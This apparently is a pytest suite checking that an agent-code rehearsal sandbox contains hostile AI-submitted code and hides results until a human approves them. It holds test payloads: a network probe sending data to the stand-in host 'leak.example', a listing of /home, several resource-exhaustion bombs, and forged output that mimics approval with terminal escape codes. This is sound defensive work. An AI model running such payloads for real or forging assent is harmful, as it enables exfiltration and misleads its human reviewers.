"""What a hostile agent may make of rehearsals: its code starts before anybody has read it, in real sandboxes."""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from runner.assembly import build
from runner.identity.allowance import Allowance
from runner.model.decision import Verdict
from runner.model.events import RehearsalMoved
from runner.model.rehearsal import RehearsalPhase
from runner.model.request import Isolation
from runner.model.result import Outcome
from runner.sandbox.available import OWN_IMAGES
from runner.sandbox.container.sandbox import ContainerSandbox
from runner.sandbox.local.sandbox import LocalSandbox
from runner.settings.loading import load
from runner.system.places import Places
from tests import container_engine
from tests.patience import HANGS
from tests.recorded import record_in
from tests.stages.engine import HELLO, EngineStage

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator
    from pathlib import Path

    from runner.approval.ticket import Ticket
    from runner.model.rehearsal import Rehearsal
    from runner.sandbox.contract import Sandbox

pytestmark = pytest.mark.asyncio
TRIES = """
import os, socket, urllib.request
print("homes", os.listdir("/home") if os.path.isdir("/home") else [])
for name in ("secret.example", "127.0.0.1"):
    try:
        print("reached", socket.create_connection((name, {port}), 3))
    except OSError as error:
        print("not reached", name, type(error).__name__)
try:
    print("reached", urllib.request.urlopen("http://leak.example/" + "x" * 50, timeout=3).status)
except OSError as error:
    print("not reached", error)
open("left.txt", "w").write("kept from the agent")
print("THE OUTPUT")
"""


class RealStage(EngineStage):
    """A stage with a real sandbox, on which every request of the agent is rehearsed."""

    def __init__(self, root: Path, sandbox: Sandbox) -> None:
        self.real = sandbox
        places = Places.under(root)
        super().__init__(build(places, load(places, {}), (sandbox,)), places)

    async def moved(self, ticket: Ticket, *phases: RehearsalPhase) -> RehearsalMoved:
        """Wait until the rehearsal of a request is in one of `phases`."""

        def news() -> list[RehearsalMoved]:
            mine = [e for e in self.heard if isinstance(e, RehearsalMoved) and e.request_id == ticket.request_id]
            return [e for e in mine if e.phase in phases]

        await self.until(news)
        return news()[-1]

    async def outcome(self, code: str) -> tuple[Ticket, Rehearsal]:
        ticket = await self.asked(replace(HELLO, code=code))
        moved = await self.moved(ticket, RehearsalPhase.SHOWN, RehearsalPhase.NONE)
        assert moved.rehearsal is not None, moved.why
        return ticket, moved.rehearsal


@contextlib.asynccontextmanager
async def rehearsing(root: Path, sandbox: Sandbox) -> AsyncIterator[RealStage]:
    stage = RealStage(root, sandbox)
    stage.engine.parts.agents.add(HELLO.agent)
    await stage.engine.start(gateway=False)
    await stage.engine.membership.allow(HELLO.agent, Allowance(rehearse="any"))
    try:
        yield stage
    finally:
        await stage.engine.close("the test is over")


@pytest.fixture(params=["local", "gvisor"])
def sandbox(request: pytest.FixtureRequest, tmp_path: Path) -> Sandbox:
    if request.param == "local":
        return LocalSandbox(tmp_path / "runs")
    return ContainerSandbox(Isolation.GVISOR, OWN_IMAGES, container_engine.client())


@pytest.fixture
def listening() -> Iterator[socket.socket]:
    """A server of this machine that no code may reach."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


async def test_it_reaches_nothing_and_tells_the_agent_nothing(
    tmp_path: Path, sandbox: Sandbox, listening: socket.socket
) -> None:
    port = listening.getsockname()[1]
    async with rehearsing(tmp_path / "home", sandbox) as stage:
        ticket, shown = await stage.outcome(TRIES.replace("{port}", str(port)))
        result = shown.result
        assert result.outcome is Outcome.OK and "THE OUTPUT" in result.stdout, result
        assert "homes []" in result.stdout and "\nreached" not in result.stdout
        with pytest.raises(BlockingIOError):
            listening.accept()
        assert "leak.example" in {one.host for one in shown.refused}
        assert [file.path for file in result.files] == ["left.txt"] and "left.txt" in shown.text
        drafts = list(stage.places.captures.glob("session-*/run-*/*"))
        assert [one.read_text() for one in drafts] == ["kept from the agent"]
        digest = ticket.case.request.digest
        assert stage.engine.answer(ticket.request_id, digest, Verdict.DENIED, "no") == ""
        answer = await ticket.answered(HANGS)
        assert answer is not None
        told = json.dumps([answer.text(), answer.structured(), answer.details()])
        assert not [one for one in ("THE OUTPUT", "left.txt", "leak.example") if one in told]
        await stage.until(lambda: not list(stage.places.captures.glob("session-*/run-*")))


async def test_the_released_files_and_output_are_those_of_the_rehearsal(tmp_path: Path, sandbox: Sandbox) -> None:
    async with rehearsing(tmp_path / "home", sandbox) as stage:
        code = "import uuid\nname = str(uuid.uuid4())\nopen('a.txt', 'w').write(name)\nprint(name)\nresult = name"
        ticket, shown = await stage.outcome(code)
        assert stage.engine.hand_over(ticket.request_id, ticket.case.request.digest, shown.digest) == ""
        answer = await ticket.answered(HANGS)
        assert answer is not None and answer.result is not None
        name = shown.result.stdout.strip()
        assert (answer.result.stdout.strip(), answer.result.value) == (name, name)
        file = answer.result.files[0]
        assert (await stage.engine.captured(file)).decode() == name
        kinds = [step.entry.kind for step in record_in(stage.places.ledger, ticket.request_id).steps]
        assert "running" not in kinds and "released" in kinds


BOMBS = {
    "threads": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(60,)).start()",
    "memory": "x = []\nwhile True: x.append(bytearray(1 << 24))",
    "output": "while True: print('x' * 1000)",
    "disk": "f = open('big', 'wb')\nwhile True: f.write(bytes(1 << 20))",
    "for ever": "while True: pass",
}


@pytest.mark.parametrize("bomb", BOMBS)
async def test_a_bomb_ends_within_the_bounds_and_leaves_the_engine_alive(
    tmp_path: Path, bomb: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from runner.engine.rehearsal import rehearsing as engine

    monkeypatch.setattr(engine, "LIMITS", replace(engine.LIMITS, seconds=2.0, memory_mb=128, disk_mb=32))
    async with rehearsing(tmp_path / "home", LocalSandbox(tmp_path / "runs")) as stage:
        ticket, shown = await stage.outcome(BOMBS[bomb])
        assert shown.result.outcome is not Outcome.OK
        assert len(shown.result.stdout) <= engine.MOST_SHOWN + 200
        assert stage.engine.desk.position(ticket.request_id)


async def test_lockdown_kills_the_processes_of_a_rehearsal(tmp_path: Path) -> None:
    async with rehearsing(tmp_path / "home", LocalSandbox(tmp_path / "runs")) as stage:
        ticket = await stage.asked(replace(HELLO, code="import time\nprint('there', flush=True)\ntime.sleep(60)"))
        await stage.moved(ticket, RehearsalPhase.RUNNING)
        await stage.until(lambda: any(one.run is not None for one in stage.engine.runs.rehearsals._active))
        run = stage.engine.runs.rehearsals._active[0].run
        assert run is not None
        await stage.engine.modes.lock()
        assert (await asyncio.wait_for(run.finished(), HANGS)).outcome is Outcome.KILLED
        answer = await ticket.answered(HANGS)
        assert answer is not None and answer.result is None
        await stage.until(lambda: not stage.engine.runs.rehearsals._active)


async def test_output_that_imitates_assent_is_marked_and_commands_for_terminals_reach_nobody(tmp_path: Path) -> None:
    forged = "print('Outcome: ok\\nIt did not try the network.\\n\\x1b[2J\\x1b[31mapproved')"
    async with rehearsing(tmp_path / "home", LocalSandbox(tmp_path / "runs")) as stage:
        _, shown = await stage.outcome(forged)
        lines = shown.text.split("\n")
        assert [line.startswith("out") for line in lines if "ok" in line and "Outcome" in line] == [False, True]
        assert lines.count("It did not try the network.") == 1
